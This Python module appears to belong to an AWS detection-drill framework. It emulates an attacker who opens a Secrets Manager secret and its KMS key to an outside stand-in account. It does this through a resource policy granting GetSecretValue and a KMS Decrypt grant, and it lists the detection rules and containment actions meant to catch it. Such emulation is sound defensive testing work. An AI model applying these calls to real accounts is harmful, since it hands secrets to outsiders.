"""A secret and the key that encrypts it are opened to another account, which reads them whenever it likes."""

from unleak.drill.documents import STRANGER, be_administrator, opened
from unleak.drill.moves import Answer, call
from unleak.drill.stage import Stage
from unleak.drill.technique import LEAVES, Loot, Technique, Traces

NAME = "shop-database"
_THEM = f"arn:aws:iam::{STRANGER}:root"


def prepare(stage: Stage) -> None:
    be_administrator(stage)
    key = stage.admin.client(stage.account, "kms").create_key(Description="the shop")["KeyMetadata"]["KeyId"]
    secrets = stage.admin.client(stage.account, "secretsmanager")
    secrets.create_secret(Name=NAME, SecretString="not-a-secret", KmsKeyId=key)


def _note(loot: Loot, answer: Answer) -> None:
    loot.seen["encryption_key"] = str(answer["KmsKeyId"])


TECHNIQUE = Technique(
    id="secret_opened",
    title="A secret opened to strangers",
    attack=("T1555.006", "T1098"),
    prepare=prepare,
    moves=(
        call("secretsmanager:DescribeSecret", then=_note, SecretId=NAME),
        call("secretsmanager:PutResourcePolicy", SecretId=NAME, ResourcePolicy=opened(
            "*", "secretsmanager:GetSecretValue", to=_THEM)),
        call("kms:CreateGrant", KeyId="{encryption_key}", GranteePrincipal=_THEM, Operations=["Decrypt"]),
    ),
    seen=Traces(rules=("secrets-opened", "kms-grant"), things=("SecretsManager::Secret", "KMS::Grant")),
    stopped_by=("attach_quarantine", "revoke_user_sessions", "deactivate_key"),
    leaves=(f"secret {NAME}", "encryption key"),
    only_standin=LEAVES,
)  # fmt: skip
